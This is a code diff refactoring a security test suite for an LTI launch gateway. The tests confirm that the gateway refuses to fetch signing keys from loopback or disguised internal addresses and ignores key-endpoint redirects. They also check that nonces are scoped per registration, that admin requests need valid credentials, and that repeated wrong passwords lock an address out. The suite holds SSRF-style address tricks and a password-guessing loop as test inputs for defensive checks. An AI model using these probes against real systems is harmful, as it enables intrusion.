@@ -498,7 +493,7 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
     it('refuses to fetch loopback, private, link-local and disguised addresses (502 jwks_unavailable, no request made)', async () => {
       expect(strict.services.config.allowPrivateUrls).toBe(false);
       const created = await adminOf(strict.url, 'POST', '/registrations', {
-        name: 'Fake LMS', issuer: lms.issuer, client_id: lms.clientId, deployment_ids: [], authorization_endpoint: lms.authorizationEndpoint,
+        name: 'Fake LMS', issuer: world.lms.issuer, client_id: world.lms.clientId, deployment_ids: [], authorization_endpoint: world.lms.authorizationEndpoint,
         jwks_url: `http://127.0.0.1:${canaryPort}/jwks`,
       });
       expect(created.status).toBe(201);
@@ -513,7 +508,7 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
       for (const jwksUrl of targets) {
         const patched = await adminOf(strict.url, 'PATCH', `/registrations/${created.body.id}`, { jwks_url: jwksUrl });
         expect(patched.status, jwksUrl).toBe(200);
-        const run = await launch(new Browser(), lms, strict, { targetLinkUri: target });
+        const run = await launch(new Browser(), world.lms, strict, { targetLinkUri: target });
         await expectRefused(run.launch!, 502, 'jwks_unavailable');
       }
       expect(canaryHits).toBe(0);
@@ -527,19 +522,19 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
       const registration = (await adminOf(strict.url, 'GET', '/registrations')).body.registrations[0];
       await adminOf(strict.url, 'PATCH', `/registrations/${registration.id}`, { jwks_url: `http://[::ffff:127.0.0.1]:${canaryPort}/jwks` });
       const target = (await adminOf(strict.url, 'GET', '/apps')).body.apps[0].launch_url;
-      const run = await launch(new Browser(), lms, strict, { targetLinkUri: target });
+      const run = await launch(new Browser(), world.lms, strict, { targetLinkUri: target });
       expect(canaryHits - before).toBe(0);
       expect(run.launch!.status).toBe(502);
     });
 
     it('does not follow a JWKS redirect, even where private URLs are allowed (502 jwks_unavailable)', async () => {
-      const redirector = createServer((_req, res) => res.writeHead(302, { location: lms.jwksUrl }).end());
+      const redirector = createServer((_req, res) => res.writeHead(302, { location: world.lms.jwksUrl }).end());
       await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
       try {
         const port = (redirector.address() as { port: number }).port;
         const second = await FakeLms.start();
-        await registerLms(gateway, second, { jwks_url: `http://127.0.0.1:${port}/jwks` });
-        const run = await launch(new Browser(), second, gateway, { targetLinkUri: app.launch_url });
+        await registerLms(world.gateway, second, { jwks_url: `http://127.0.0.1:${port}/jwks` });
+        const run = await launch(new Browser(), second, world.gateway, { targetLinkUri: world.apps.chatbot.launch_url });
         await expectRefused(run.launch!, 502, 'jwks_unavailable');
         await second.close();
       } finally {
@@ -549,28 +544,21 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
   });
 
   it('keeps the registration’s nonce scope: a nonce used for one registration does not block another', async () => {
-    expect(await useNonce(gateway.services.db, `tool:${registrationId}`, 'shared-nonce', Date.now() + 60_000)).toBe(true);
-    expect(await useNonce(gateway.services.db, 'tool:another-registration', 'shared-nonce', Date.now() + 60_000)).toBe(true);
-    expect(await useNonce(gateway.services.db, `tool:${registrationId}`, 'shared-nonce', Date.now() + 60_000)).toBe(false);
+    expect(await useNonce(world.gateway.services.db, `tool:${world.registration.id}`, 'shared-nonce', Date.now() + 60_000)).toBe(true);
+    expect(await useNonce(world.gateway.services.db, 'tool:another-registration', 'shared-nonce', Date.now() + 60_000)).toBe(true);
+    expect(await useNonce(world.gateway.services.db, `tool:${world.registration.id}`, 'shared-nonce', Date.now() + 60_000)).toBe(false);
   });
 });
 
 describe('gateway admin API authentication (a gateway of its own: failed sign-ins lock this address out)', () => {
-  let gateway: TestGateway;
-  let app: { id: string; api_key: string };
-
-  beforeAll(async () => {
-    gateway = await startGateway('sqlite');
-    app = await createApp(gateway, { slug: 'chatbot' });
-  });
-  afterAll(async () => gateway?.close());
+  const world = useGateway({ dialect: 'sqlite', lms: 'none', apps: { chatbot: { slug: 'chatbot' } } });
 
   it('requires Basic credentials on every endpoint (401 admin_unauthorized)', async () => {
-    for (const [method, path] of [['GET', '/registrations'], ['POST', '/registrations'], ['GET', '/apps'], ['POST', '/apps'], ['PATCH', `/apps/${app.id}`], ['GET', '/keys'], ['POST', '/keys/rotate'], ['GET', '/launches'], ['POST', `/apps/${app.id}/api-key`], ['DELETE', `/apps/${app.id}`]]) {
+    for (const [method, path] of [['GET', '/registrations'], ['POST', '/registrations'], ['GET', '/apps'], ['POST', '/apps'], ['PATCH', `/apps/${world.apps.chatbot.id}`], ['GET', '/keys'], ['POST', '/keys/rotate'], ['GET', '/launches'], ['POST', `/apps/${world.apps.chatbot.id}/api-key`], ['DELETE', `/apps/${world.apps.chatbot.id}`]]) {
       const body = method === 'POST' || method === 'PATCH' ? { body: '{}', json: true } : { body: undefined, json: false };
-      for (const authorization of [null, `Bearer ${app.api_key}`, 'Basic !!!not-base64', 'Digest username="admin"']) {
+      for (const authorization of [null, `Bearer ${world.apps.chatbot.api_key}`, 'Basic !!!not-base64', 'Digest username="admin"']) {
         const headers: Record<string, string> = { ...(authorization ? { authorization } : {}), ...(body.json ? { 'content-type': 'application/json' } : {}) };
-        await expectRefused(await fetch(`${gateway.url}/admin/api/v1${path}`, { method, headers, body: body.body }), 401, 'admin_unauthorized');
+        await expectRefused(await fetch(`${world.gateway.url}/admin/api/v1${path}`, { method, headers, body: body.body }), 401, 'admin_unauthorized');
       }
     }
   });
@@ -580,20 +568,20 @@ describe('gateway admin API authentication (a gateway of its own: failed sign-in
   // client gets "400 request_invalid: body must be object" (the API's schema) instead of 401, and
   // every anonymous body is parsed first. Register the check as an `onRequest` hook instead.
   it('refuses an anonymous write before looking at its body (401, not 400)', async () => {
-    const response = await fetch(`${gateway.url}/admin/api/v1/registrations`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '[]' });
+    const response = await fetch(`${world.gateway.url}/admin/api/v1/registrations`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '[]' });
     expect(response.status).toBe(401);
   });
 
   it('locks an address out after 10 wrong passwords (429 admin_rate_limited, Retry-After), even for the right one; launches are unaffected', async () => {
     for (let i = 0; i < 10; i += 1) {
-      await expectRefused(await fetch(`${gateway.url}/admin/api/v1/apps`, { headers: { authorization: basicAuth('admin', `guess-${i}`) } }), 401, 'admin_unauthorized');
+      await expectRefused(await fetch(`${world.gateway.url}/admin/api/v1/apps`, { headers: { authorization: basicAuth('admin', `guess-${i}`) } }), 401, 'admin_unauthorized');
     }
-    const locked = await fetch(`${gateway.url}/admin/api/v1/apps`, { headers: { authorization: basicAuth() } });
+    const locked = await fetch(`${world.gateway.url}/admin/api/v1/apps`, { headers: { authorization: basicAuth() } });
     expect(Number(locked.headers.get('retry-after'))).toBeGreaterThan(0);
     await expectRefused(locked, 429, 'admin_rate_limited');
-    await expectRefused(await fetch(`${gateway.url}/admin/registrations`, { headers: { authorization: basicAuth('admin', 'guess-11') } }), 401, /admin_unauthorized|admin_rate_limited/);
-    expect((await fetch(`${gateway.url}/.well-known/jwks.json`)).status).toBe(200);
-    await expectRefused(await fetch(`${gateway.url}/api/v1/launches/some-code`, { headers: { authorization: `Bearer ${app.api_key}` } }), 404, 'handoff_unknown');
+    await expectRefused(await fetch(`${world.gateway.url}/admin/registrations`, { headers: { authorization: basicAuth('admin', 'guess-11') } }), 401, /admin_unauthorized|admin_rate_limited/);
+    expect((await fetch(`${world.gateway.url}/.well-known/jwks.json`)).status).toBe(200);
+    await expectRefused(await fetch(`${world.gateway.url}/api/v1/launches/some-code`, { headers: { authorization: `Bearer ${world.apps.chatbot.api_key}` } }), 404, 'handoff_unknown');
   });
 });
 
